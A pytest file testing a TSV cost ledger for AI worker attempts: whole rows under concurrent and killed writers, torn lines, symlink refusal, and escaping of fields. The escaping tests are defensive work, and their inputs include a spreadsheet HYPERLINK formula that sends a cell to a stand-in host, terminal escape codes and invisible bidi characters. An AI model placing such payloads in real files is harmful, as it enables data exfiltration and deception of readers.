"""The ledger: whole rows whatever happens, and nothing in them that a reader or a spreadsheet stumbles over."""

import errno
import fcntl
import os
import signal
import subprocess
import sys
import threading
import time
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from nightdesk.agents.ledger import (
    COLUMNS,
    MAX_FIELD,
    MAX_REASON,
    Row,
    append_attempt,
    escape_field,
    read_ledger,
    stream_ledger,
    unescape_field,
)
from nightdesk.agents.tasks import Attempt, Usage
from nightdesk.base.errors import DeskError

NOW = datetime(2026, 11, 22, 21, 3, 4, 999_999, UTC)
USAGE = Usage("gpt-5", 1200, 1000, 300, 0.0123, 4.5)
ATTEMPT = Attempt("t0123456789", "read", "raw/a.md", "openai:gpt-5", "b1", 1, USAGE, "accepted", "")
ROW = Row(
    NOW.replace(microsecond=0), "t0123456789", "read", "raw/a.md", "openai:gpt-5", "gpt-5", "b1", 1,
    1200, 1000, 300, 0.0123, 4.5, "accepted", "",
)  # fmt: skip
LINE = (
    "2026-11-22T21:03:04Z\tt0123456789\tread\traw/a.md\topenai:gpt-5\tgpt-5\tb1\t1\t1200\t1000\t300\t0.0123\t4.5\t"
    "accepted\t"
)
HEADER = "\t".join(COLUMNS)
# Appends until it is killed, or `count` rows; each row has another reason, so that a lost or mixed one is seen.
WRITER = """
import sys
from datetime import UTC, datetime
from pathlib import Path
from nightdesk.agents.ledger import append_attempt
from nightdesk.agents.tasks import Attempt, Usage
path, name, count = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3])
print("ready", flush=True)
for n in range(count):
    reason = f"{name} {n} " + "é\\t" * 120
    attempt = Attempt("t", "read", "raw/a.md", name, "b", n, Usage(), "rejected", reason)
    append_attempt(path, attempt, now=datetime.now(UTC))
"""


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "costs.tsv"


def writer(path: Path, name: str, count: int) -> "subprocess.Popen[bytes]":
    command = [sys.executable, "-c", WRITER, str(path), name, str(count)]
    return subprocess.Popen(command, stdout=subprocess.PIPE)


def test_a_row_is_written_as_the_documents_say_and_read_back(path: Path) -> None:
    append_attempt(path, ATTEMPT, now=NOW)
    append_attempt(path, ATTEMPT, now=NOW.astimezone(timezone(timedelta(hours=5))))
    assert path.read_text(encoding="utf-8") == f"{HEADER}\n{LINE}\n{LINE}\n"
    assert read_ledger(path) == [ROW, ROW]


def test_the_columns_stand_in_the_documents() -> None:
    document = (Path(__file__).parent.parent.parent / "docs/workers/costs.md").read_text(encoding="utf-8")
    assert [line.split("`")[1] for line in document.split("\n") if line.startswith("| `")][: len(COLUMNS)] == [*COLUMNS]


@pytest.mark.parametrize(
    ("usage", "written"),
    [
        (Usage(), ["", "", "", "", "0"]),  # unknown is empty, not 0
        (Usage(input_tokens=0, cached_tokens=0, output_tokens=0, usd=0.0), ["0", "0", "0", "0", "0"]),  # 0 is 0
        (Usage(usd=0.00000051), ["", "", "", "0.00000051", "0"]),  # no exponent, and no rounding to nothing
        (Usage(usd=float("nan"), seconds=float("inf")), ["", "", "", "", ""]),  # no numbers
        (Usage(input_tokens=-5, output_tokens=10**30), ["", "", "", "", "0"]),  # a worker that tells nonsense
    ],
)
def test_amounts(path: Path, usage: Usage, written: list[str]) -> None:
    append_attempt(path, replace(ATTEMPT, usage=usage), now=NOW)
    assert path.read_text().split("\n")[1].split("\t")[8:13] == written
    read = read_ledger(path)[0]
    assert [read.usd is None, read.input_tokens is None] == [written[3] == "", written[0] == ""]


@pytest.mark.parametrize(
    ("text", "field"),
    [
        ("raw/Überblick – 概要.md", "raw/Überblick – 概要.md"),
        ("a\tb\nc\rd", "a\\tb\\nc\\rd"),  # would be columns and rows
        ("C:\\new", "C:\\\\new"),  # so that it is not read back as a line end
        ("\x1b[2J\x00\x85", "\\u001b[2J\\u0000\\u0085"),  # would drive a terminal
        ("a\u2028b\u202ec\u200bd\U000e0041", "a\\u2028b\\u202ec\\u200bd\\U000e0041"),  # unseen by a person
        ('=HYPERLINK("https://x.example/"&A1)', '\'=HYPERLINK("https://x.example/"&A1)'),  # a formula
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("＝1", "'＝1"),  # taken for "=" where these signs are typed
        ("  =1", "'  =1"),  # blanks do not help
        ('"quoted" word', '\'"quoted" word'),  # would take all that follows into one cell
        ("'tis", "''tis"),  # so that reading takes off only what writing put there
        ("a = b, -1", "a = b, -1"),  # only the beginning counts
        ("", ""),
    ],
)
def test_texts_are_safe_and_come_back(path: Path, text: str, field: str) -> None:
    assert escape_field(text) == field
    assert unescape_field(field) == text
    append_attempt(path, replace(ATTEMPT, subject=text, reason=text), now=NOW)
    assert read_ledger(path) == [replace(ROW, subject=text, reason=text)]


def test_what_cannot_be_kept_is_replaced_or_cut(path: Path) -> None:
    attempt = replace(ATTEMPT, subject="raw/\udcff.md", worker="w" * 5000, reason="r" * 5000)
    append_attempt(path, attempt, now=NOW)  # the name of a file that is not UTF-8
    (row,) = read_ledger(path)
    assert row.subject == "raw/\ufffd.md"
    assert row.worker == "w" * (MAX_FIELD - 1) + "…"
    assert row.reason == "r" * (MAX_REASON - 1) + "…"


@pytest.mark.parametrize("field", ["\\ud800", "\\Uffffffff", "\\", "\\q", "\\u12", "''"])
def test_an_escape_that_we_did_not_write_does_no_harm(field: str) -> None:
    unescape_field(field).encode("utf-8")


@pytest.mark.parametrize(
    ("line", "rows"),
    [
        (LINE, [ROW]),
        (LINE + "\r", [ROW]),  # saved on Windows
        (LINE.rstrip("\t"), [ROW]),  # an editor took the empty last field for blanks
        (LINE + "\t12\tfuture", [ROW]),  # columns added later
        (LINE.replace("accepted", "postponed"), [replace(ROW, outcome="postponed")]),  # an outcome added later
        (LINE.replace("04Z", "04+02:00"), [replace(ROW, time=ROW.time - timedelta(hours=2))]),
        (LINE.replace("\t0.0123\t", "\t€ 5\t"), [replace(ROW, usd=None)]),  # unknown, not 0
        (LINE.replace("\t0.0123\t", "\t-0.5\t"), [replace(ROW, usd=None)]),  # nothing is earned
        (LINE.replace("\t0.0123\t", "\tnan\t"), [replace(ROW, usd=None)]),
        (LINE.replace("\t1200\t", f"\t{'9' * 5000}\t"), [replace(ROW, input_tokens=None)]),
        ("", []),  # an empty line is no damage
        (HEADER, []),  # a second header: two files put together
        (LINE[:90], [None]),  # torn
        (LINE[:-3], [None]),  # torn within its outcome
        ("<<<<<<< HEAD", [None]),  # a conflict of git's
        ("2026-13-45T00:00:00Z" + LINE[20:], [None]),
        ("0001-01-01T00:00:00+14:00" + LINE[20:], [None]),  # before the first year
        ("\0" * 5000, [None]),  # what a power cut can leave
        ("x" * 200_000, [None]),  # longer than anything of ours
    ],
)
def test_a_line_is_a_row_or_is_passed_over(path: Path, line: str, rows: list[Row | None]) -> None:
    path.write_text(f"{HEADER}\n{line}\n{LINE}\n", encoding="utf-8", newline="")
    assert list(stream_ledger(path)) == [*rows, ROW]


@pytest.mark.parametrize(
    ("header", "line"),
    [
        (None, LINE),  # a person took the header away
        ("\ufeff" + HEADER, LINE),  # a spreadsheet put a byte order mark
        ("\t".join(reversed(COLUMNS)), "\t".join(reversed(LINE.split("\t")))),  # columns moved
        (HEADER + "\tnode", LINE + "\tgpu1"),  # a later version's
        ("\t".join(COLUMNS[:-1]), LINE),  # an earlier version's: what it did not know comes after the rest
    ],
)
def test_the_header_says_where_the_columns_are(path: Path, header: str | None, line: str) -> None:
    path.write_text("".join(f"{part}\n" for part in (header, line) if part is not None), encoding="utf-8")
    append_attempt(path, ATTEMPT, now=NOW)
    assert read_ledger(path) == [ROW, ROW], "what is appended keeps the order of the file"


@pytest.mark.parametrize(
    ("before", "kept"),
    [
        (f"{HEADER}\n{LINE}\n{LINE[:70]}", [ROW, None]),  # a power cut
        (f"{HEADER}\n{LINE}", [ROW]),  # whole, but an editor took the last line end
        (HEADER[:20], [None]),
        ("", []),
    ],
)
def test_a_torn_last_row_is_passed_over_and_does_not_harm_the_next(
    path: Path, before: str, kept: list[Row | None]
) -> None:
    path.write_text(before)
    assert list(stream_ledger(path)) == kept
    append_attempt(path, ATTEMPT, now=NOW)
    append_attempt(path, ATTEMPT, now=NOW)
    assert list(stream_ledger(path)) == [*kept, ROW, ROW]


def test_no_ledger_is_no_rows(path: Path) -> None:
    assert read_ledger(path) == []
    assert not path.exists()


@pytest.mark.parametrize("kind", ["link", "dangling link", "pipe", "folder"])
def test_what_is_no_plain_file_is_refused(path: Path, tmp_path: Path, kind: str) -> None:
    other = tmp_path / "other"
    if kind == "link":
        other.write_text("mine")
    if kind.endswith("link"):
        path.symlink_to(other)
    elif kind == "pipe":
        os.mkfifo(path)
    else:
        path.mkdir()
    with pytest.raises(DeskError):
        append_attempt(path, ATTEMPT, now=NOW)
    with pytest.raises(DeskError):
        read_ledger(path)
    assert (other.read_text() if kind == "link" else "") == ("mine" if kind == "link" else "")
    assert other.exists() == (kind == "link"), "a link is not followed to make a file elsewhere"


def test_a_full_disk_is_said(monkeypatch: pytest.MonkeyPatch, path: Path) -> None:
    monkeypatch.setattr(os, "write", lambda file, data: 10)  # a full disk takes a part
    with pytest.raises(DeskError, match="no room for a whole row"):
        append_attempt(path, ATTEMPT, now=NOW)


def test_eight_processes_at_once_lose_and_mix_nothing(path: Path) -> None:
    processes = [writer(path, f"p{n}", 200) for n in range(8)]
    for process in processes:
        process.communicate()
        assert process.returncode == 0
    rows = list(stream_ledger(path))
    found = sorted((row.worker, row.attempt) for row in rows if row is not None and row.attempt is not None)
    assert found == sorted((f"p{n}", k) for n in range(8) for k in range(200))
    assert len(rows) == 1600
    assert path.read_text(encoding="utf-8").count(HEADER) == 1


@pytest.mark.parametrize("locks", [True, False])
def test_threads_at_once_lose_and_mix_nothing(monkeypatch: pytest.MonkeyPatch, path: Path, locks: bool) -> None:
    if not locks:  # as a network folder without locks says it

        def no_locks(file: int, operation: int) -> None:
            raise OSError(errno.ENOLCK, "No locks available")

        monkeypatch.setattr(fcntl, "flock", no_locks)
        append_attempt(path, ATTEMPT, now=NOW)  # the header: without locks two could write one

    def work(name: str) -> None:
        for n in range(50):
            append_attempt(path, replace(ATTEMPT, worker=name, number=n), now=NOW)

    threads = [threading.Thread(target=work, args=(f"w{n}",)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    rows = [(row.worker, row.attempt) for row in stream_ledger(path) if row is not None and row.worker != ROW.worker]
    assert sorted(rows) == [(f"w{n}", k) for n in range(4) for k in range(50)]
    assert None not in list(stream_ledger(path))


def test_a_kill_leaves_whole_rows(path: Path) -> None:
    for turn in range(4):
        process = writer(path, f"p{turn}", 10**9)
        assert process.stdout is not None
        assert process.stdout.readline() == b"ready\n"
        begun = path.stat().st_size if path.exists() else 0
        while not path.exists() or path.stat().st_size < begun + 20_000:
            time.sleep(0.001)
        process.send_signal(signal.SIGKILL)
        process.communicate()
    rows = list(stream_ledger(path))
    for turn in range(4):
        numbers = [row.attempt for row in rows if row is not None and row.worker == f"p{turn}"]
        assert numbers == list(range(len(numbers)))
        assert len(numbers) > 10
    # the kernel may stop a killed write between two pages of memory: at most one row for each kill, and it stays alone
    assert rows.count(None) <= 4
